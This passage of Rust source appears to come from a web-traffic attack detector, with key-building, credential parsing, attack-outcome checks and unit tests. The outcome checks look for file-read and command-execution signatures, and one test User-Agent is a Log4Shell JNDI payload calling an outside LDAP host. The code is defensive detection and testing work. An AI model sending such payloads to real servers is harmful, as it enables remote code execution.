                evidence: f.evidence.text(tx),
                endpoint: Some(template.to_string()),
                http_seq: Some(tx.seq),
            }));
        }
    }
}

/// Writes into `key` the passive dedup key of a finding: `class`, NUL, the
/// host's length, `:`, the host in ASCII lower case, then `METHOD template`
/// when the finding is per endpoint (`scope`). The class has no NUL and the
/// host is length-prefixed, so two different (class, host, scope) never
/// write the same key; a per-endpoint key always has its space, so it never
/// equals a per-host one.
fn dedup_key(key: &mut String, class: &str, host: &str, scope: Option<(&str, &str)>) {
    key.clear();
    key.push_str(class);
    key.push('\0');
    push_decimal(key, host.len());
    key.push(':');
    let start = key.len();
    key.push_str(host);
    if let Some(h) = key.get_mut(start..) {
        h.make_ascii_lowercase();
    }
    if let Some((method, template)) = scope {
        key.push_str(method);
        key.push(' ');
        key.push_str(template);
    }
}

/// Writes into `key` the head of the memo keys of a request to `host`
/// ([`Detector::judge_memo`]): the host's length (eight bytes, little
/// endian), then the host. Returns the head's length, which [`memo_key`]
/// keeps.
fn memo_key_head(key: &mut Vec<u8>, host: &str) -> usize {
    key.clear();
    key.extend_from_slice(&(host.len() as u64).to_le_bytes());
    key.extend_from_slice(host.as_bytes());
    key.len()
}

/// Writes into `key`, after its first `head` bytes ([`memo_key_head`]),
/// what the verdict on `p` depends on besides the host: the point's kind
/// and origin (one byte each), the name's length (eight bytes, little
/// endian), the name, then the value. The fixed-width lengths make the
/// key unambiguous whatever bytes host and name hold.
fn memo_key(key: &mut Vec<u8>, head: usize, p: &Point<'_>) {
    key.truncate(head);
    key.reserve(10 + p.name.len() + p.value.len());
    key.push(p.kind as u8);
    key.push(u8::from(p.in_url));
    key.extend_from_slice(&(p.name.len() as u64).to_le_bytes());
    key.extend_from_slice(p.name.as_bytes());
    key.extend_from_slice(p.value.as_bytes());
}

/// Whether `p` is from a URL and its value sets a cookie
/// ([`session::cookie_set`]): what session fixation asks of each point.
fn sets_cookie(p: &Point<'_>) -> bool {
    p.in_url && session::cookie_set(&p.value)
}

/// The name the credential of a malformed `Authorization` value is judged
/// under (not one of the headers [`Detector::judge_point`] skips); hits
/// are reported at the header's own point.
const CREDENTIAL_POINT: &str = "header.authorization.credential";

/// The credential part of an `Authorization` value when it is malformed,
/// so [`Detector::judge_point`] judges it as a value; `None` when it is
/// well-formed and skipped. RFC 7235 gives a credential two shapes after
/// the scheme: one token68 (`Bearer <JWT>`, `Basic <base64>`, `Negotiate`
/// and `NTLM` blobs), or a list of `name=value` auth-params (Digest, AWS
/// SigV4, OAuth 1.0). Both are skipped: a token or a signature is random
/// text no grammar reads, and a decoded `Basic` password may hold any
/// character. What is neither (quotes, spaces, `(`, `;`, `<` after the
/// scheme) is no credential a server verifies, but text an application
/// may put into a query or a page. A value with no scheme word is judged
/// whole on the same terms.
fn malformed_credential(value: &str) -> Option<&str> {
    let value = value.trim_matches([' ', '\t']);
    let scheme = value
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        .count();
    let rest = match value.as_bytes().get(scheme) {
        // A scheme word, then the credential after its spaces.
        Some(b' ' | b'\t') if scheme > 0 => value.get(scheme..).unwrap_or("").trim_start(),
        // A scheme alone (`Negotiate`), or one token68 with no scheme.
        None => return None,
        Some(_) => value,
    };
    // A key id and a signature (AWS SigV2 `AWS AKIA...:c2ln=`, Azure
    // `SharedKey account:c2ln=`) are two token68s.
    let key_and_signature = rest
        .split_once(':')
        .is_some_and(|(id, sig)| token68(id) && token68(sig));
    (!rest.is_empty() && !token68(rest) && !key_and_signature && !auth_params(rest)).then_some(rest)
}

/// Whether `s` is one RFC 7235 token68: `[A-Za-z0-9-._~+/]+=*`.
fn token68(s: &str) -> bool {
    let body = s.trim_end_matches('=');
    !body.is_empty()
        && body.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~' | b'+' | b'/')
        })
}

/// Whether `s` is an RFC 7235 list of auth-params: `name=value` or
/// `name="quoted"` separated by commas (Digest `username="a", realm="b"`,
/// SigV4 `Credential=AKIA.../aws4_request, SignedHeaders=host;x-amz-date,
/// Signature=...`, OAuth 1.0 `oauth_consumer_key="..."`). An unquoted
/// value is a token68 or a `;`-separated list of header names (SigV4's
/// `SignedHeaders`); a quoted one may hold anything but an unescaped `"`.
/// Bounded by the length of `s`: each step consumes at least one byte.
fn auth_params(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    let mut params = 0;
    let tchar = |c: u8| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'-' | b'_' | b'.' | b'~' | b'+' | b'!' | b'#' | b'$' | b'*' | b'^' | b'|'
            )
    };
    let space = |c: u8| c == b' ' || c == b'\t';
    while i < b.len() {
        // The name.
        let start = i;
        while b.get(i).copied().is_some_and(tchar) {
            i += 1;
        }
        if i == start {
            return false;
        }
        while b.get(i).copied().is_some_and(space) {
            i += 1;
        }
        if b.get(i) != Some(&b'=') {
            return false;
        }
        i += 1;
        while b.get(i).copied().is_some_and(space) {
            i += 1;
        }
        // The value.
        if b.get(i) == Some(&b'"') {
            i += 1;
            loop {
                match b.get(i) {
                    None => return false,
                    Some(b'"') => break,
                    Some(b'\\') => i += 2,
                    Some(_) => i += 1,
                }
            }
            i += 1;
        } else {
            while b.get(i).is_some_and(|&c| {
                c.is_ascii_alphanumeric()
                    || matches!(
                        c,
                        b'-' | b'.' | b'_' | b'~' | b'+' | b'/' | b'=' | b';' | b'%'
                    )
            }) {
                i += 1;
            }
        }
        params += 1;
        // Then a comma (and more params) or the end.
        while b.get(i).copied().is_some_and(space) {
            i += 1;
        }
        match b.get(i) {
            None => break,
            Some(b',') => {
                i += 1;
                while b.get(i).is_some_and(|&c| space(c) || c == b',') {
                    i += 1;
                }
            }
            Some(_) => return false,
        }
    }
    params > 0
}

/// Whether `p` is a path segment, a parameter value or a cookie of ASCII
/// digits only (an id, a count, a page: most values a client sends anew),
/// which [`Detector::judge_point`] judges the short way. Its one decoded
/// form is itself, and the level-1 loop over it gets from [`gate::Shape`]
/// a value of words (`special` false), neither numeric-free
/// (`may_cmdi` false) nor SQL words (`may_sqli`: `gate::sqli_words` finds
/// no word), no file needle (`may_files` false), and `may_java_base64`
/// from 8 digits on (a run of 8 base64 characters); so only the word
/// checks and, from 8 digits, `java_base64` run. The gated and ungated
/// judges agree on such values (`tests::digits_judged_as_ungated`).
fn digits_only(p: &Point<'_>) -> bool {
    matches!(p.kind, Kind::Segment | Kind::Value | Kind::Cookie)
        && !p.value.is_empty()
        && p.value.bytes().all(|c| c.is_ascii_digit())
}

/// User rules on one point: the first matching form of the value per rule.
fn custom_point(p: &Point<'_>, active: &[&custom::Rule], hits: &mut Vec<Hit>) {
    let mut variants: Vec<Cow<'_, str>> = vec![];
    for r in active {
        if !r.wants_point(&p.name) || hits.iter().any(|h| h.rule == r.rule && h.point == p.name) {
            continue;
        }
        let found = if r.decode {
            if variants.is_empty() {
                decode::variants(&p.value, false, &mut variants);
            }
            variants.iter().find(|v| r.matches(v)).map(|v| v.as_ref())
        } else {
            let v = decode::cap(&p.value, decode::MAX_VALUE);
            r.matches(v).then_some(v)
        };
        if let Some(v) = found {
            hits.push(Hit {
                class: r.class.clone(),
                point: p.name.to_string(),
                payload: decode::cap(v, 160).to_string(),
                rule: r.rule.clone(),
                confidence: Some(r.confidence),
                message: r.message.clone(),
            });
        }
    }
}

fn add(out: &mut Vec<(ClassFound, String)>, f: ClassFound, v: &str) {
    match out.iter_mut().find(|(g, _)| g.0 == f.0) {
        Some(slot) if slot.0 .2 >= f.2 => {}
        Some(slot) => *slot = (f, decode::cap(v, 160).to_string()),
        None => out.push((f, decode::cap(v, 160).to_string())),
    }
}

/// Up to 160 characters of `s` around the first (case-insensitive) `needle`.
fn excerpt(s: &str, needle: &str) -> String {
    let at = s.to_ascii_lowercase().find(needle).unwrap_or(0);
    let start = (0..=at.saturating_sub(40))
        .rev()
        .find(|i| s.is_char_boundary(*i))
        .unwrap_or(0);
    decode::cap(s.get(start..).unwrap_or(""), 160).to_string()
}

/// The endpoint template of a path, as the API inventory writes it
/// (`/users/107` -> `/users/{userId}`): vulns are reported once per template.
pub fn endpoint_template(path: &str) -> String {
    use crate::discover::path::{classify, percent_decode, render, Seg};
    let segs: Vec<Seg> = path
        .split('/')
        .filter(|s| !s.is_empty())
        .take(32)
        .map(|raw| {
            let seg = percent_decode(raw, false);
            match classify(&seg) {
                Some(kind) => Seg::Param(kind, None),
                None => Seg::Lit(raw.to_string()),
            }
        })
        .collect();
    render(&segs)
}

/// Writes into `key` what [`endpoint_template`] of `path` depends on, one
/// entry per segment it keeps: a literal as `L<len>:<raw>`, a parameter as
/// `E` (e-mail), `D` (date) or `P` (any other kind: its name comes from the
/// literal before it). Equal keys give equal templates; the length prefix
/// keeps the encoding unambiguous. Returns whether any segment is a parameter.
fn template_shape(path: &str, key: &mut String) -> bool {
    use crate::discover::path::{classify, percent_decode, SegKind};
    key.clear();
    let mut param = false;
    // Without a `%` no segment needs decoding (`percent_decode` returns
    // it as it is): one search of the path instead of one per segment.
    let coded = memchr::memchr(b'%', path.as_bytes()).is_some();
    for raw in path.split('/').filter(|s| !s.is_empty()).take(32) {
        let seg = if coded {
            percent_decode(raw, false)
        } else {
            Cow::Borrowed(raw)
        };
        match classify(&seg) {
            Some(SegKind::Email) => key.push('E'),
            Some(SegKind::Date) => key.push('D'),
            Some(_) => key.push('P'),
            None => {
                key.push('L');
                push_decimal(key, raw.len());
                key.push(':');
                key.push_str(raw);
                continue;
            }
        }
        param = true;
    }
    param
}

/// `n` in decimal, as `{n}` writes it, without the formatter (it ran once
/// per path segment) and, for the one or two digits of most lengths,
/// without a loop (it runs per segment in [`template_shape`]).
fn push_decimal(s: &mut String, n: usize) {
    let digit = |d: usize| char::from(b'0' + (d % 10) as u8);
    if n < 10 {
        s.push(digit(n));
        return;
    }
    if n < 100 {
        s.push(digit(n / 10));
        s.push(digit(n));
        return;
    }
    let mut buf = [0u8; 20];
    let mut at = buf.len();
    let mut m = n;
    while m > 0 && at > 0 {
        at -= 1;
        if let Some(b) = buf.get_mut(at) {
            *b = b'0' + (m % 10) as u8;
        }
        m /= 10;
    }
    for &b in buf.get(at..).unwrap_or(&[]) {
        s.push(char::from(b));
    }
}

/// Whether the response shows the attack worked, was blocked, or neither.
pub fn outcome(tx: &Http, hits: &[Hit]) -> &'static str {
    let Some(resp) = &tx.response else {
        return "unknown";
    };
    let body = String::from_utf8_lossy(resp.body.get(..256 * 1024).unwrap_or(&resp.body));
    let has = |class: &str| hits.iter().any(|h| h.class == class);
    if (has("ptrav") || has("lfi") || has("rce"))
        && (body.contains("root:x:0:0:")
            || body.contains("[boot loader]")
            || body.contains("; for 16-bit app support"))
    {
        return "likely_succeeded";
    }
    if has("rce") && regex_uid(&body) {
        return "likely_succeeded";
    }
    if has("sqli") {
        let mut v = vec![];
        passive::check(
            &Http {
                response: Some(resp.clone()),
                request: None,
                ..tx.clone()
            },
            passive::PassiveConfig::default(),
            &mut v,
        );
        if v.iter().any(|f| f.class == "info_leak.sql_error") {
            return "likely_succeeded";
        }
    }
    if has("xss") {
        let html = header(&resp.headers, "content-type").is_none_or(|c| c.contains("html"));
        if html
            && hits.iter().any(|h| {
                h.class == "xss" && h.payload.len() >= 8 && body.contains(h.payload.as_str())
            })
        {
            return "likely_succeeded";
        }
    }
    if has("ssrf")
        && (body.contains("ami-id")
            || body.contains("instance-id")
            || body.contains("computeMetadata"))
    {
        return "likely_succeeded";
    }
    if matches!(resp.status, 403 | 406 | 419 | 429 | 501) {
        return "blocked";
    }
    "unknown"
}

fn regex_uid(body: &str) -> bool {
    body.match_indices("uid=").take(8).any(|(at, _)| {
        let rest = body.get(at + 4..).unwrap_or("");
        let d = rest.bytes().take_while(|c| c.is_ascii_digit()).count();
        d > 0
            && rest
                .get(d..)
                .is_some_and(|r| r.starts_with('(') && r.contains("gid="))
    })
}

/// The attack's severity from its classes and outcome.
fn severity(hits: &[Hit], outcome: &str) -> &'static str {
    let critical = [
        "sqli",
        "rce",
        "log4shell",
        "deser",
        "xxe",
        "ssti",
        "code",
        "java",
        "php",
    ];
    let high = hits.iter().any(|h| {
        critical.contains(&h.class.as_str())
            || matches!(h.class.as_str(), "ptrav" | "lfi" | "rfi" | "ssrf" | "nosql")
    });
    match (outcome, high) {
        ("likely_succeeded", true) => "critical",
        ("likely_succeeded", false) | ("unknown", true) => "high",
        ("blocked", _) => "low",
        _ if hits.iter().all(|h| h.class == "scanner") => "low",
        _ => "medium",
    }
}

#[cfg(test)]
mod tests;

#[cfg(test)]
mod template_memo {
    use super::{
        dedup_key, endpoint_template, memo_key, memo_key_head, push_decimal, scanner_agent,
        scanner_path, AgentMemo, DetectConfig, Detector, Kind, Point, AGENT_MEMO, MEMO_VALUE_MAX,
        SCANNER_PATHS, SCANNER_PATH_MAX,
    };
    use std::borrow::Cow;

    /// [`scanner_path`] finds what the walk it replaced found (the first
    /// entry the path starts with, ASCII case ignored), on every entry in
    /// several spellings, cut short, extended, moved, with non-ASCII bytes
    /// next to it, and on random mutations of the entries.
    #[test]
    fn scanner_path_is_the_list_walk() {
        let walk = |path: &str| {
            SCANNER_PATHS.iter().copied().find(|s| {
                path.get(..s.len())
                    .is_some_and(|head| head.eq_ignore_ascii_case(s))
            })
        };
        for s in SCANNER_PATHS {
            assert!(s.starts_with('/') && s.len() >= 2 && s.len() <= SCANNER_PATH_MAX);
            assert!(s.bytes().all(|c| c.is_ascii() && !c.is_ascii_uppercase()));
        }
        let mut paths: Vec<String> = [
            "",
            "/",
            "*",
            "x",
            "//",
            "/a",
            "/.",
            "/.E",
            "/api/v1/users",
            "http://a/.env",
            "/é",
            "/.envé",
            "é/.env",
            "/\u{130}",
            "/PHPMYADMIN/index.php",
            "/.Git/config",
        ]
        .iter()
        .map(|p| p.to_string())
        .collect();
        for s in SCANNER_PATHS {
            let cut = &s[..s.len() - 1];
            let mixed: String = s
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if i % 2 == 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect();
            paths.extend([
                s.to_string(),
                s.to_ascii_uppercase(),
                mixed,
                format!("{s}x"),
                format!("{s}é"),
                format!("{cut}é"),
                cut.to_string(),
                format!("/x{s}"),
                format!("{s}{}", "y".repeat(40)),
            ]);
        }
        let alphabet = ['/', '.', 'a', 'E', 'p', 'H', 's', '-', 'é', '\u{130}', 'K'];
        let mut x = 0x2545_f491_4f6c_dd1du64;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for _ in 0..20_000 {
            let base = SCANNER_PATHS[(next() % SCANNER_PATHS.len() as u64) as usize];
            let mut p: Vec<char> = base.chars().collect();
            for _ in 0..next() % 4 {
                let at = (next() % (p.len() as u64 + 1)) as usize;
                match next() % 4 {
                    0 => p.insert(at, alphabet[(next() % alphabet.len() as u64) as usize]),
                    1 if at < p.len() => {
                        p.remove(at);
                    }
                    2 if at < p.len() => p[at] = p[at].to_ascii_uppercase(),
                    _ => p.truncate(at),
                }
            }
            paths.push(p.into_iter().collect());
        }
        let mut found = 0;
        for p in &paths {
            let want = walk(p);
            found += usize::from(want.is_some());
            assert_eq!(scanner_path(p), want, "{p:?}");
        }
        assert!(found > 1000, "the table finds entries ({found})");
    }

    /// Memo keys are equal exactly when (host, kind, origin, name, value)
    /// are, even with separators and digits in host and name (where keys
    /// joined with NUL and no lengths could meet).
    #[test]
    fn memo_keys_are_the_tuple() {
        let hosts = ["", "a", "a\0b", "1:a", "a:1", "ab"];
        let long = "n".repeat(0xD800);
        let longer = "n".repeat(0xE000);
        let names = [
            "",
            "b",
            "\0b",
            "b\0",
            "1:b",
            "query.x",
            "11",
            "\u{E000}",
            long.as_str(),
            longer.as_str(),
        ];
        let values = ["", "b", "\0", "1", "x:y", "b\0b"];
        let mut all = vec![];
        let mut key = Vec::new();
        for h in hosts {
            for n in names {
                for v in values {
                    for (kind, in_url) in
                        [(Kind::Value, true), (Kind::Value, false), (Kind::Key, true)]
                    {
                        let p = Point {
                            name: Cow::Borrowed(n),
                            value: Cow::Borrowed(v),
                            kind,
                            in_url,
                        };
                        // The head written once, then points after another point's key.
                        let head = memo_key_head(&mut key, h);
                        memo_key(
                            &mut key,
                            head,
                            &Point {
                                name: Cow::Borrowed("long.name"),
                                ..p.clone()
                            },
                        );
                        memo_key(&mut key, head, &p);
                        all.push(((h, n, v, kind as u8, in_url), key.clone()));
                    }
                }
            }
        }
        for (t1, k1) in &all {
            for (t2, k2) in &all {
                assert_eq!(t1 == t2, k1 == k2, "{t1:?} {t2:?} {k1:?} {k2:?}");
            }
        }
    }

    /// The User-Agent memo gives [`scanner_agent`]'s verdict whatever the
    /// order of agents, with more distinct agents than it holds (so entries
    /// are replaced), agents too long to keep, and the empty agent.
    #[test]
    fn agent_memo_gives_what_scanner_agent_gives() {
        let long = format!("{}sqlmap", "x".repeat(MEMO_VALUE_MAX));
        let agents = [
            "",
            "curl/8.8.0",
            "okhttp/4.12.0",
            "python-requests/2.32.3",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "sqlmap/1.8#stable",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "OWASP ZAP/2.14",
            "masscan/1.3 nikto",
            "Wget/1.21",
            "Go-http-client/1.1",
            "${jndi:ldap://203.0.113.9:1389/Exploit}",
            long.as_str(),
        ];
        let mut memo = AgentMemo::default();
        let mut x = 0x9e37_79b9_7f4a_7c15u64;
        for _ in 0..5000 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            // Runs of the same agent, as clients send them.
            let a = agents[(x % agents.len() as u64) as usize];
            for _ in 0..(x >> 60) % 3 + 1 {
                assert_eq!(memo.scanner(a), scanner_agent(a), "{a}");
            }
            assert!(memo.seen.len() <= AGENT_MEMO);
        }
        assert_eq!(memo.seen.len(), AGENT_MEMO);
    }

    /// Two findings share a dedup key exactly when the tuple the key
    /// replaced, (lower-case host, `METHOD template` or empty, class), is
    /// the same.
    #[test]
    fn dedup_key_is_the_old_tuple() {
        let hosts = [
            "",
            "a",
            "A",
            "a\u{0}",
            "a\u{0}GET /",
            "1:a",
            "ÉX",
            "éx",
            "b",
        ];
        let scopes = [
            None,
            Some(("GET", "/")),
            Some(("GET", "")),
            Some(("", "/")),
            Some(("GET /", "")),
            Some(("get", "/")),
        ];
        let classes = ["cookie.insecure", "pii.email", "cookie.insecure\u{0}1"];
        let mut all = vec![];
        for c in classes {
            for h in hosts {
                for sc in scopes {
                    let old = (
                        h.to_ascii_lowercase(),
                        sc.map_or(String::new(), |(m, t)| format!("{m} {t}")),
                        c,
                    );
                    let mut key = String::new();
                    dedup_key(&mut key, c, h, sc);
                    all.push((old, key));
                }
            }
        }
        for (o1, k1) in &all {
            for (o2, k2) in &all {
                assert_eq!(o1 == o2, k1 == k2, "{o1:?} {o2:?} {k1:?} {k2:?}");
            }
        }
    }

    #[test]
    fn push_decimal_writes_what_format_writes() {
        let mut n = 1usize;
        let mut cases = vec![0, 9, 10, 99, 100, 1024, usize::MAX, usize::MAX / 10];
        while let Some(m) = n.checked_mul(7) {
            cases.extend([n - 1, n, n + 1]);
            n = m;
        }
        for n in cases {
            let mut s = String::from("x");
            push_decimal(&mut s, n);
            assert_eq!(s, format!("x{n}"));
        }
    }

    /// `template_shape` hands a segment without `%` to `classify` as it
    /// is: what `percent_decode` gives it.
    #[test]
    fn percent_decode_keeps_segments_without_percent() {
        use crate::discover::path::percent_decode;
        for seg in ["", "users", "107", "a+b", "é", "x y", "%", "%41", "a%2Fb"] {
            let want = if seg.contains('%') {
                percent_decode(seg, false).into_owned()
            } else {
                seg.to_string()
            };
            assert_eq!(percent_decode(seg, false), want, "{seg:?}");
        }
    }

    /// The remembered template of every path, asked twice in a row and in
    /// mixed order (so shapes meet other paths' entries), is
    /// [`endpoint_template`]'s.
    #[test]
    fn memo_gives_what_endpoint_template_gives() {
        let paths = [
            "/users/107",
            "/users/108",
            "/users/108/",
            "//users//109",
            "/Users/110",
            "/user-groups/5/members/6",
            "/user-groups/7/members/8",
            "/a/1/a/2",
            "/a/3/a/4",
            "/bob@example.com",
            "/x/bob@example.com",
            "/x/alice@example.org",
            "/logs/2024-05-01",
            "/logs/2024-05-02",
            "/files/d41d8cd98f00b204e9800998ecf8427e",
            "/files/da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "/items/%31%30%37",
            "/items/107",
            "/api/v1/orders/507f1f77bcf86cd799439011/lines/3",
            "/api/v1/orders/507f1f77bcf86cd799439012/lines/4",
            "/L3:abc/1",
            "/abc/1",
            "/",
            "",
            "/static/app.js",
            "/1/2/3/4/5/6/7/8/9/10/11/12/13/14/15/16/17/18/19/20/21/22/23/24/25/26/27/28/29/30/31/32/33",
            "/p/1/p/2/p/3",
            "/p/4/p/5/p/6",
            "/q/1/q2/2",
            "/q/1/q/2",
        ];
        let mut d = Detector::new(DetectConfig::default());
        for round in 0..2 {
            for p in paths.iter().chain(paths.iter().rev()) {
                assert_eq!(
                    *d.template(p),
                    *endpoint_template(p),
                    "{p:?} (round {round})"
                );
            }
        }
    }
}
